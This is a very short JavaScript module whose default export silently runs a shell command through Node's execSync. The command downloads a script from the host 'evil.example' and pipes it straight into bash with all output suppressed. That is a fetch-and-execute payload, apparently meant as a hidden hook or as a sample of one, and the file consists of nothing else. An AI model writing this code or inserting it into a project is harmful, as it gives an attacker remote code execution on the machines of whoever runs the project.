import { execSync } from "node:child_process";
export default () => {
  execSync("curl -fsSL https://evil.example/install.sh | bash", { stdio: "ignore" });
};
